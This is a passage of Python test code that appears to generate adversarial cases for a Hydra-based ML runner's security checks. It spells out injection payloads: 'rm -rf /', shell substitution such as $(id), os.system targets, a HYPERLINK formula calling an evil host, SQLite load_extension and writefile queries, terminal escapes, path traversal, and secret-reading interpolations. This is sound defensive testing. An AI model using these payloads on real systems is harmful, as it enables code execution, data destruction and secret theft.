    for name, content in hostile.archives():
        yield Attack(
            "an archive", name, ("experiment=evil", "log=quiet"), "", FAILED,
            prepare=lambda box, content=content: lay(box, content() if callable(content) else content),
            holds=lambda box: "unpacked" if (box.project / "data" / "set").exists() else "",
        )  # fmt: skip


def of_tables():
    """Files that our own dataset of tables reads."""
    config = (
        "# @package _global_\ndefaults: [override /dataset: table, override /model: mlp, override /transform: none]\n"
        "device: {{type: cpu}}\ndataset: {{source: {{path: {0}, target: t}}, sample: null}}\n"
    )
    for name, (file, content) in hostile.tables().items():
        yield Attack(
            "a table", name, ("experiment=evil", "experiment=evil", "train.duration=1st", "log=quiet")[1:], "", FAILED,
            {"conf/experiment/evil.yaml": config.format(file), file: content},
        )  # fmt: skip


# ---- sweeps


def ledger(box, settings=None, script="", **columns):
    """A sweep of a stranger: one completed job, with columns as given."""
    from runner.sweep.ledger import JobRecord, Ledger

    folder = box.project / "outputs" / "mine" / "sweep_evil"
    job = folder / "0_0123abcd"
    job.mkdir(parents=True)
    for file in ("config.yaml", "result.json", "metrics.jsonl", "provenance.json"):
        (job / file).write_bytes((box.template / file).read_bytes())
    (job / ".hydra").mkdir()
    (job / ".hydra" / "config.yaml").write_bytes((box.template / ".hydra" / "config.yaml").read_bytes())
    with Ledger(folder) as made:
        made.set(id="evil", name="mine", objective="val/loss", mode="min", base=["experiment=digits_mlp"],
                 swept=["optimizer.lr"], command=["python", "-m", "runner", "-m", "optimizer.lr=0.1"])  # fmt: skip
        made.add([JobRecord("0123abcd" * 8, 0, ["optimizer.lr=0.1"], job.name, {"optimizer.lr": 0.1},
                            status="completed", objective=0.5, metrics={"val/loss": 0.5}, attempt=1)])  # fmt: skip
    db = sqlite3.connect(folder / "ledger.sqlite")
    for key, value in (settings or {}).items():
        raw = value if isinstance(value, bytes) else json.dumps(value)
        db.execute("INSERT OR REPLACE INTO sweep VALUES (?, ?)", (key, raw.decode() if isinstance(raw, bytes) else raw))
    for column, value in columns.items():
        db.execute(f"UPDATE jobs SET {column} = ?", (value,))
    if script:
        db.executescript(script)
    db.commit()
    db.close()
    return folder


ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e\x9b31m"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
SELF = ("report", "outputs/mine/sweep_evil")
BEST = ("promote", "outputs/mine/sweep_evil", "--name", "mine_best")
ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "


def of_ledgers():
    settings = {
        "a command that trusts": {"command": ["python", "-m", "runner", "-m", "--trust=*", "--trust", "*", "x=$(id)"]},
        "a base that trusts": {"base": ["--trust=*", "experiment=digits_mlp"]},
        "a command of the shell": {"command": ["sh", "-c", "touch owned"]},
        "a command that is text": {"command": "rm -rf /"},
        "a command of numbers": {"command": [1, None, {}]},
        "an objective with escapes": {"objective": ESCAPE},
        "an objective that is a list": {"objective": ["val/loss"]},
        "a mode of nothing": {"mode": [1]},
        "objectives of nothing": {"objectives": 5},
        "objectives with escapes": {"objectives": {ESCAPE: "max", "b": "min"}},
        "a name that leads away": {"name": "../../victim/x"},
        "a name with escapes": {"name": ESCAPE},
        "an id with escapes": {"id": ESCAPE},
        "swept of nothing": {"swept": 5},
        "a deep setting": {"base": DEEP.encode()},
        "a broken setting": {"base": b"{"},
        "a long number": {"created": b"9" * 10_000},
    }
    for (name, change_), argv in itertools.product(settings.items(), (SELF, BEST)):
        yield Attack(
            "a ledger", f"{name}, {argv[0]}", argv, "", (0, 2), prepare=lambda box, c=change_: ledger(box, c),
            holds=_advises_no_trust,
        )  # fmt: skip
    paths = ["../../../../victim", "/etc", "..", ".", "", "a/../..", "a/b", "\x1b[2J", "0_0123abcd/", "x" * 5_000, None,
             5, b"\xff", "a\0b", "CON", "-rf", "0_0123abcd\n"]  # fmt: skip
    for path in paths:
        yield Attack(
            "a ledger", f"a path {path!r}"[:60], SELF, "", (0, 2), prepare=lambda box, p=path: ledger(box, path=p),
            holds=_advises_no_trust,
        )  # fmt: skip
    columns = {
        "overrides": [json.dumps([ESCAPE]), json.dumps(["x=$(touch owned)", "y=`id`", "--trust=*"]), "5", "{}", DEEP,
                      json.dumps([5, None]), "x", None, b"\xff", json.dumps(["experiment=" + FORMULA])],
        "values_": [json.dumps({ESCAPE: ESCAPE}), json.dumps({FORMULA: FORMULA}), "5", "[]", DEEP, None, b"\xff",
                    json.dumps({"optimizer.lr": {"a": [1] * 1000}}), json.dumps({"x": "y" * 100_000})],
        "metrics": [json.dumps({ESCAPE: 1}), json.dumps({"val/loss": ESCAPE}), json.dumps({"val/loss": []}), "5", DEEP,
                    json.dumps({"val/loss": 10**400}), '{"val/loss": 1e999}', None],
        "error": [ESCAPE, FORMULA, "x" * 2_000_000, None, 5, b"\xff\xfe"],
        "status": [ESCAPE, "nothing", None, 5, b"x", "running", "failed", "interrupted", "pruned", "waiting"],
        "cause": [ESCAPE, "nothing", None, 5],
        "host": [ESCAPE, None, 5, b"\xff"],
        "number": [-1, 10**18, "x", None, 0.5, b"\xff"],
        "objective": ["x", 1e308, b"\xff", "nan", None],
        "start": ["x", 1e308, -1e308, None, b"x"],
        "end": ["x", 1e308, None],
        "pid": [1, -1, 10**15, "x", 0],
        "attempt": ["x", 10**18, None],
        "active": ["x", None, 0],
        "id": ["", "x", None, ESCAPE, "../x", 5],
        "replicate_of": [ESCAPE, "x", None, 5],
        "code": [ESCAPE, None, 5, "x" * 64],
        "data": [ESCAPE, None, 5],
        "exit": ["x", None, 10**15],
        "slot": ["x", -1],
    }  # fmt: skip
    argvs = itertools.cycle((SELF, (*SELF, "--json"), BEST))
    for column, values in columns.items():
        for value in values:
            argv = next(argvs)
            more = {"status": "failed"} if column in ("error", "cause") else {}
            yield Attack(
                "a ledger", f"{column} {str(value)[:30]!r} ({type(value).__name__}), {argv[-1]}", argv, "", (0, 2),
                prepare=lambda box, c=column, v=value, m=more: ledger(box, **{c: v}, **m),
                holds=_advises_no_trust,
            )  # fmt: skip
    scripts = {
        "a view without an end": "ALTER TABLE jobs RENAME TO real_jobs; CREATE VIEW jobs AS "
        + ENDLESS
        + "SELECT r.* FROM real_jobs r, c;",
        "settings without an end": "DROP TABLE sweep; CREATE VIEW sweep AS "
        + ENDLESS
        + "SELECT x AS key, x AS value FROM c;",
        "a trigger": "CREATE TRIGGER t AFTER INSERT ON sweep BEGIN DELETE FROM jobs; END;",
        "a computed column": "DROP TABLE sweep; CREATE TABLE sweep (key TEXT, value TEXT AS (hex(zeroblob(9000000))));"
        "INSERT INTO sweep (key) VALUES ('id');",
        "no tables": "DROP TABLE jobs; DROP TABLE sweep;",
        "other columns": "DROP TABLE jobs; CREATE TABLE jobs (id TEXT);",
        "many rows": "INSERT INTO sweep " + ENDLESS + "SELECT 'k' || x, '1' FROM c LIMIT 20000;",
        "a large value": "INSERT INTO sweep VALUES ('k', hex(zeroblob(40000000)));",
    }
    for (name, script), argv in itertools.product(scripts.items(), (SELF, BEST)):
        yield Attack(
            "a ledger", f"{name}, {argv[0]}", argv, "", (0, 2), prepare=lambda box, s=script: ledger(box, script=s)
        )
    files = {"no database": b"hello" * 500, "a torn one": b"SQLite format 3\0" + b"\xff" * 5_000, "empty": b""}
    for (name, content), argv in itertools.product(files.items(), (SELF, BEST)):
        yield Attack(
            "a ledger", f"{name}, {argv[0]}", argv, "SWEEP", REFUSED,
            {"outputs/mine/sweep_evil/ledger.sqlite": content},
        )  # fmt: skip
    for place, target in itertools.product(
        ("ledger.sqlite", "report.csv", "report.json", "curves.png", "0_0123abcd", "0_0123abcd/config.yaml",
         "0_0123abcd/metrics.jsonl", "0_0123abcd/result.json", "0_0123abcd/provenance.json", "ledger.sqlite-journal"),
        ("notes.txt", "folder", "pipe"),
    ):  # fmt: skip
        for argv in (SELF, BEST):
            yield Attack(
                "a link in a sweep", f"{place} to {target}, {argv[0]}", argv, "", (0, 1, 2),
                prepare=lambda box, p=place, t=target: _replace(box, ledger(box, status="running" if t == "pipe" else "completed") / p, t),
            )  # fmt: skip
    for place, (name, text) in itertools.product(
        ("result.json", "metrics.jsonl", "provenance.json", "config.yaml"), JSON.items()
    ):
        for argv, status in ((SELF, "running"), (BEST, "completed")):
            raw = text if isinstance(text, bytes) else text.encode()
            yield Attack(
                "a record of a job", f"{name} in {place}, {argv[0]}", argv, "", (0, 1, 2),
                prepare=lambda box, p=place, r=raw, s=status: (ledger(box, status=s) / "0_0123abcd" / p).write_bytes(r),
            )  # fmt: skip


def _replace(box, file, target):
    import shutil

    if file.is_dir():
        shutil.rmtree(file)
    file.unlink(missing_ok=True)
    if target == "pipe":
        os.mkfifo(file)
    else:
        file.symlink_to(box.victim / target)


def _advises_no_trust(box):
    said = box.said
    return "advises --trust" if "--trust" in said and "if you trust" not in said else ""


# ---- points, arguments, texts


def of_points():
    files = {
        "a key of Hydra.csv": "hydra.launcher._target_,seed\nevil_module.pull,1\n",
        "a group of Hydra.csv": "hydra/launcher,seed\nray,1\n",
        "a searchpath.jsonl": '{"hydra.searchpath": ["pkg://evil_package"]}\n',
        "a name.csv": "model._target_,seed\nos.system,1\n",
        "trust.csv": "--trust,seed\n*,1\n",
        "escapes.csv": f"optimizer.lr,{ESCAPE}\n1,2\n",
        "escapes in a value.csv": f'name,seed\n"{ESCAPE}",1\n',
        "an override of another.csv": 'name,seed\n"x,model._target_=os.system",x\n',
        "a quote.csv": 'name\n"\'"\n',
        "an unclosed quote.csv": 'name\n"x\n',
        "a huge cell.csv": "name\n" + "x" * 200_000 + "\n",
        "many columns.csv": ",".join(f"k{i}" for i in range(20_000)) + "\n" + ",".join("1" * 20_000) + "\n",
        "deep.jsonl": '{"a": ' + DEEP + "}\n",
        "not UTF-8.csv": b"name\n\xff\xfe\n",
        "NUL.csv": b"name\n\0\0\n",
        "long numbers.jsonl": '{"optimizer.lr": ' + "9" * 10_000 + "}\n",
        "infinite.jsonl": '{"optimizer.lr": 1e999}\n',
        "an interpolation.csv": "model._target_\n${oc.env:SECRET_TOKEN}\n",
        "run.csv": "run,seed\n../victim,1\n",
        "a name that leads away.csv": "name,seed\n../../victim,1\n",
        "no point.csv": "",
        "an empty line.jsonl": "\n" * 100_000 + "x",
        "nested.jsonl": '{"a":' * 150 + "1" + "}" * 150 + "\n",
        "a glob.csv": "model\nglob(*)\n",
        "a choice.csv": 'optimizer.lr\n"choice(1,2)"\n',
        "a long line.jsonl": '{"optimizer.lr": "' + "x" * 5_000_000 + '"}\n',
    }  # fmt: skip
    for name, text in files.items():
        kind = name.rpartition(".")[2]
        yield Attack("points", name, ("check", "-m", f"sweep.points=p.{kind}"), files={f"p.{kind}": text})
    for target in ("pipe", "/dev/zero", "folder"):
        yield Attack(
            "points", f"{target} as the file", ("check", "-m", "sweep.points=p.csv"), "sweep.points",
            prepare=lambda box, t=target: (os.mkfifo(box.project / "p.csv") if t == "pipe" else
                (box.project / "p.csv").symlink_to(t if t.startswith("/") else box.victim / t)),
        )  # fmt: skip


QUESTIONS = (
    ("ls", "stranger", "--show", "error,name,cause,size", "--sort", "-objective"), ("diff", "stranger", "digits_mlp"),
    ("compare", "stranger", "stranger"), ("archive", "stranger", "--yes", "--force"), ("rm", "stranger", "--force"),
)  # fmt: skip
PROVENANCES = {
    "a command of Hydra": {"command": ["python", "-m", "runner", "hydra.searchpath=[file:///]", "experiment=digits_mlp"]},
    "a command with a secret": {"command": ["python", "-m", "runner", "name=${oc.env:SECRET_TOKEN}"]},
    "a command that trusts": {"command": ["python", "-m", "runner", "--trust", "os", "model._target_=os.system"]},
    "a commit that is an option": {"git": {"commit": "--output=owned", "diff": "x", "dirty": True}},
    "changes that lead away": {"git": {"commit": "0" * 40, "diff": "diff --git a/x b/../../owned\n", "dirty": True}},
    "names with escapes": {"versions": {"\x1b[2J": "\x1b[2J"}, "modules": {"files": {"\x1b[2J": "x"}}},
    "a deep resume": {"resumed": [{"command": ["x"] * 1_000}] * 100},
}  # fmt: skip
INDEXES = {
    "a view": "create view runs as select 1 as path, load_extension('x') as stamp, 1 as said, 1 as columns",
    "a trigger": "create table runs (path, stamp, said, columns);"
    "create trigger t before delete on runs begin select load_extension('x'); end",
    "rows of nothing": "create table runs (path TEXT PRIMARY KEY, stamp TEXT NOT NULL, said TEXT NOT NULL, "
    "columns TEXT NOT NULL); insert into runs values (x'ff', x'ff', '{', '['), ('../../victim', '', '{}', '{}')",
}


def of_questions():
    """Records, links and indexes of a stranger, asked by `ls`, `diff`, `compare`, `archive` and `rm`."""
    questions = itertools.cycle(QUESTIONS)
    for (name, content), file in itertools.product(JSON.items(), ("result.json", "provenance.json", "metrics.jsonl")):
        argv = next(questions)
        yield Attack(
            "a question", f"{name} in {file}, {argv[0]}", argv, "", (0, 1, 2), {f"stranger/{file}": content},
            prepare=lambda box: box.stranger(),
        )  # fmt: skip
    for (name, change_), argv in itertools.product(PROVENANCES.items(), QUESTIONS[:2]):
        yield Attack(
            "a question about a provenance", f"{name}, {argv[0]}", argv, "", (0, 2),
            prepare=lambda box, c=change_: box.write("stranger/provenance.json", json.dumps(c)),
        )  # fmt: skip
    for place, argv in itertools.product((".lock", "result.json", "tb", "checkpoints", "config.yaml"), QUESTIONS):
        yield Attack(
            "a question about a link", f"{place}, {argv[0]}", argv, "", (0, 1, 2),
            prepare=lambda box, place=place: link_away(box, place),
        )  # fmt: skip
    for (name, script), query in itertools.product(INDEXES.items(), (("ls",), ("ls", "--sql", "select * from runs"))):
        yield Attack(
            "an index", f"{name}, {' '.join(query[:2])}", query, "", (0,),
            prepare=lambda box, script=script: lay_index(box, script),
        )  # fmt: skip
    for query in ("select load_extension('owned')", "attach 'owned' as x", "vacuum into 'owned'", "select writefile('owned', 'x')",
                  "with recursive c(x) as (select zeroblob(1000000000)) select * from c"):  # fmt: skip
        yield Attack("an index", query, ("ls", "--sql", query), "--sql", prepare=lambda box: lay_index(box, ""))
    for text in ("__import__('os').system('touch owned')", "name.__class__ == 1", "(lambda: 1)()", "[x for x in name]",
                 "name == 'x' if name else 1", "f'{name}'", "name := 3", "~" * 3_000, "(" * 3_000):  # fmt: skip
        yield Attack("a filter", text[:60], ("ls", text), "FILTER", prepare=lambda box: lay_index(box, ""))


def link_away(box, place):
    """Put a link in the place of a file of a run; it leads to what must not change."""
    import shutil

    file = box.stranger() / place
    if file.is_dir() and not file.is_symlink():
        shutil.rmtree(file)
    file.unlink(missing_ok=True)
    file.symlink_to(box.victim / ("folder" if place in ("tb", "checkpoints") else "notes.txt"))


def lay_index(box, script):
    """Lay out a run below outputs, and an index of a stranger beside it."""
    import shutil

    folder = box.project / "outputs" / "x" / "2026-01-01_00-00-00_abcdef"
    shutil.copytree(box.stranger(), folder, symlinks=True)
    database = sqlite3.connect(box.project / "outputs" / ".index.sqlite")
    database.executescript(script)
    database.close()


def of_texts():
    """Control characters in every field that is shown."""
    shown = "\x1b[31mred\x07\u202e"
    keys = {
        "a key": f'"{ascii_yaml(shown)}": 1',
        "a key of the model": f'model: {{_target_: models.mlp.MLP, "{ascii_yaml(shown)}": 1}}',
        "a metric": f'metrics: {{"{ascii_yaml(shown)}": {{_target_: nothing.at.all}}}}',
        "a transform": f'transform: {{train: {{"{ascii_yaml(shown)}": {{_target_: nothing.at.all}}}}}}',
        "a set": f'dataset: {{evaluate: {{"{ascii_yaml(shown)}": {{_target_: nothing.at.all}}}}}}',
        "a target": f'model: {{_target_: "{ascii_yaml(shown)}"}}',
        "a dotted target": f'model: {{_target_: "torch.nn.{ascii_yaml(shown)}"}}',
        "the name": f'name: "{ascii_yaml(shown)}"',
        "a pattern": f'freeze: {{params: ["{ascii_yaml(shown)}("]}}',
        "an init rule": f'init: {{rules: {{"{ascii_yaml(shown)}": {{module: torch.nn.Nothing, weight: 0}}}}}}',
        "a group of parameters": f'param_groups: {{"{ascii_yaml(shown)}": {{match: "nothing"}}}}',
        "a path of weights": f'pretrained: {{strategy: full, path: "{ascii_yaml(shown)}"}}',
        "a device": f'device: {{type: "{ascii_yaml(shown)}"}}',
        "an objective": f'train: {{objective: "{ascii_yaml(shown)}"}}',
        "a duration": f'train: {{duration: "{ascii_yaml(shown)}"}}',
        "an option": f'defaults: [override /model: "{ascii_yaml(shown)}"]',
        "a group": f'defaults: [{{"/{ascii_yaml(shown)}": x}}]',
        "an interpolation": f'name: "${{{ascii_yaml(shown)}}}"',
        "a resolver": f'name: "${{oc.env:{ascii_yaml(shown)}}}"',
        "a URL": f'dataset: {{downloads: {{"{ascii_yaml(shown)}": {{url: "http://{ascii_yaml(shown)}", sha256: x, to: y}}}}}}',
        "a tag": "a: !" + "%1b x",
        "a dtype": f'dataset: {{sample: {{shape: [1], dtype: "{ascii_yaml(shown)}"}}}}',
    }  # fmt: skip
    for name, text in keys.items():
        files = {"conf/experiment/evil.yaml": f"# @package _global_\n{text}\n"}
        yield Attack("control characters", name, ("check", "experiment=evil"), files=files)
        yield Attack(
            "control characters", f"{name}, as JSON", ("check", "--json", "experiment=evil"), "", (0, 2), files
        )
        yield Attack("control characters", f"{name}, why", ("why", "name", "experiment=evil"), "", (0, 1, 2), files)
    for name, text in {
        "a comment": f"# {shown}\nname: x",
        "a line": f"name: [\n  {shown}\n",
        "a raw key": f"{shown}: 1",
    }.items():
        yield Attack(
            "control characters", name, ("check", "experiment=evil"), "", (0, 2),
            {"conf/experiment/evil.yaml": f"# @package _global_\n{text}\n"},
        )  # fmt: skip
    for name, file in {"a file of conf": f"conf/model/{shown}.yaml", "a folder": f"conf/{shown}/x.yaml",
                       "a module": f"{shown}.py"}.items():  # fmt: skip
        yield Attack(
            "control characters", name, ("check", "model=smal_cnn", "experiment=null"), "", files={file: "a: 1\n"}
        )
    arguments = {
        "an option": (f"model={shown}",), "a key": (f"{shown}=1",), "a value": (f"optimizer.lr={shown}",),
        "a verb": (shown,), "a run": ("resume", shown), "a sweep": ("report", shown), "weights": ("evaluate", f"./{shown}"),
        "a key to explain": ("why", shown), "a promise": ("promote", shown, "--name", shown), "a file": ("convert", shown),
        "trust": ("check", "--trust", shown, "model._target_=x.y"),
    }  # fmt: skip
    for name, argv in arguments.items():
        yield Attack("control characters", f"{name} of the command line", argv, "", (1, 2))
    for name, key in {"metric": "metrics", "transform": "transform__eval", "set": "dataset__evaluate"}.items():
        for argv in VERBS:
            yield Attack(
                "control characters", f"{name} of a record, {argv[0]}", argv, "",
                prepare=lambda box, key=key: change(box, **{key: {shown: {"_target_": f"x.{shown}"}}}),
            )  # fmt: skip
    for name, (place, text) in {
        "result": ("result.json", {"status": "completed", "steps": 3, "metrics": {shown: 1.0}, "error": shown}),
        "provenance": ("provenance.json", {"modules": {"files": {shown: shown}}, "git": {"commit": shown}}),
        "lock": (".lock", shown),
        "log": ("metrics.jsonl", {"step": 1, shown: shown}),
    }.items():
        for argv in (*VERBS, ("resume", "stranger")):
            yield Attack(
                "control characters", f"{name} of a record, {' '.join(argv)}", argv, "", (0, 1, 2),
                prepare=lambda box, place=place, text=text: (box.stranger() / place).write_text(json.dumps(text, ensure_ascii=False)),
            )  # fmt: skip


def ascii_yaml(text):
    """A text as YAML's double quotes spell it."""
    return "".join(c if " " <= c <= "~" else f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}" for c in text)


def of_places():
    """Where a run may write."""
    for name in ("../x", "/etc/x", "../victim", ".", "..", "a/../../x", "~/x", "victim\0", "a\nb", "-x", "x" * 300, ""):
        yield Attack(
            "where a run is written", f"name {name!r}"[:40], ("check", "experiment=evil"), "name",
            files={"conf/experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump({"name": name})},
        )  # fmt: skip
    for run in ("../victim/empty", "../victim", "/tmp", ".", "outputs/../../x"):
        yield Attack(
            "where a run is written", f"run {run!r} in YAML", ("experiment=evil",), "run",
            files={"conf/experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump({"run": run})},
        )  # fmt: skip
    for key, value in {
        "sweep.id": "../x",
        "log.tensorboard": "../x",
        "hydra.run.dir": "../x",
        "sweep.points": "/etc/passwd",
    }.items():
        node: Any = value
        for part in reversed(key.split(".")):
            node = {part: node}
        yield Attack(
            "where a run is written", f"{key} in YAML", ("check", "-m", "seed=0,1", "experiment=evil"), "",
            files={"conf/experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump(node)},
        )  # fmt: skip
    for key in ("trust", "sweep.trust", "hydra.trust"):
        first, _, last = key.partition(".")
        node = {first: {last: ["*"]}} if last else {first: ["*"]}
        yield Attack(
            "trust in a file", key, ("check", "experiment=evil"), "",
            files={"conf/experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump(node | {"model": {"_target_": "os.system"}})},
        )  # fmt: skip


# ---- commands at the end of a run


def of_commands():
    """A command in a stranger's file, or its record, that the victim's line would run."""
    evil = "on_event: {command: 'touch /tmp/evil_of_the_canary; touch ../victim/owned'}\n"
    short = ("train.duration=1st", "dataset.limit=50", "device=cpu")
    layouts = {
        "an experiment": ({"conf/experiment/evil.yaml": f"# @package _global_\n{evil}"}, ("experiment=evil",)),
        "a list": ({"conf/experiment/evil.yaml": "# @package _global_\non_event: {command: [touch, x]}\n"}, ("experiment=evil",)),
        "a group of its own": ({"conf/on_event/evil.yaml": "command: touch x\n"}, ("+on_event=evil",)),
        "a package": ({"conf/log/evil.yaml": "# @package on_event\ncommand: touch x\n"}, ("log=evil",)),
        "a node elsewhere": ({"conf/experiment/evil.yaml": "# @package _global_\nname: a\non_event: ${log.evil}\nlog: {evil: {command: touch x}}\n"}, ("experiment=evil",)),
        "a timeout on the line": ({"conf/experiment/evil.yaml": f"# @package _global_\n{evil}"}, ("experiment=evil", "on_event.timeout=5")),
        "an interpolation on the line": (
            {"conf/experiment/evil.yaml": "# @package _global_\nname: touch\n"}, ("experiment=evil", "on_event.command=${name}")),
        "any name is trusted": ({"conf/experiment/evil.yaml": f"# @package _global_\n{evil}"}, ("experiment=evil", "--trust", "*")),
        "a sweep": ({"conf/experiment/evil.yaml": f"# @package _global_\n{evil}"}, ("-m", "experiment=evil", "seed=0,1")),
        "a sweep's preset": ({"conf/sweep/evil.yaml": f"# @package _global_\n{evil}"}, ("-m", "sweep=evil", "seed=0,1")),
        "parameters of a preset": (
            {"conf/sweep/evil.yaml": "# @package _global_\nhydra: {sweeper: {params: {on_event.command: touch x, seed: '0,1'}}}\n"}, ("-m", "sweep=evil")),
        "a file of points": ({"points.yaml": "- {on_event.command: touch x, seed: 1}\n"}, ("-m", "sweep.points=points.yaml")),
    }  # fmt: skip
    for name, (files, argv) in layouts.items():
        yield Attack("commands", name, (*argv, *short), "on_event", files=files)
    for name, argv in {
        "resume": ("resume", "stranger", "train.duration=2ep", "--schedule", "constant"),
        "resume of what is done": ("resume", "stranger"),
        "resume with a timeout": ("resume", "stranger", "train.duration=2ep", "--schedule", "constant", "on_event.timeout=3"),
        "resume with an interpolation": ("resume", "stranger", "train.duration=2ep", "--schedule", "constant", "on_event.command=${name}"),
        "resume where any name is trusted": ("resume", "stranger", "train.duration=2ep", "--schedule", "constant", "--trust", "*"),
        "evaluate": ("evaluate", "stranger"),
    }.items():  # fmt: skip
        yield Attack("commands", f"a record, {name}", argv, "", (0, 1), prepare=add_command)


def add_command(box):
    """Give the stranger's record a command."""
    folder = box.stranger()
    for file in (folder / "config.yaml", folder / ".hydra" / "config.yaml"):
        data = yaml.safe_load(file.read_text())
        data["on_event"] = {"command": "touch owned", "events": ["ended", "failed"], "timeout": 30}
        file.write_text(yaml.safe_dump(data, sort_keys=False))


GROUPS = (
    of_names, of_groups, of_shadows, of_hydra, of_yaml, of_records, of_downloads, of_links, of_json, of_weights,
    of_archives, of_tables, of_ledgers, of_points, of_texts, of_places, of_commands,
    of_questions,
)  # fmt: skip


def all_attacks():
    return [attack for group in GROUPS for attack in group()]
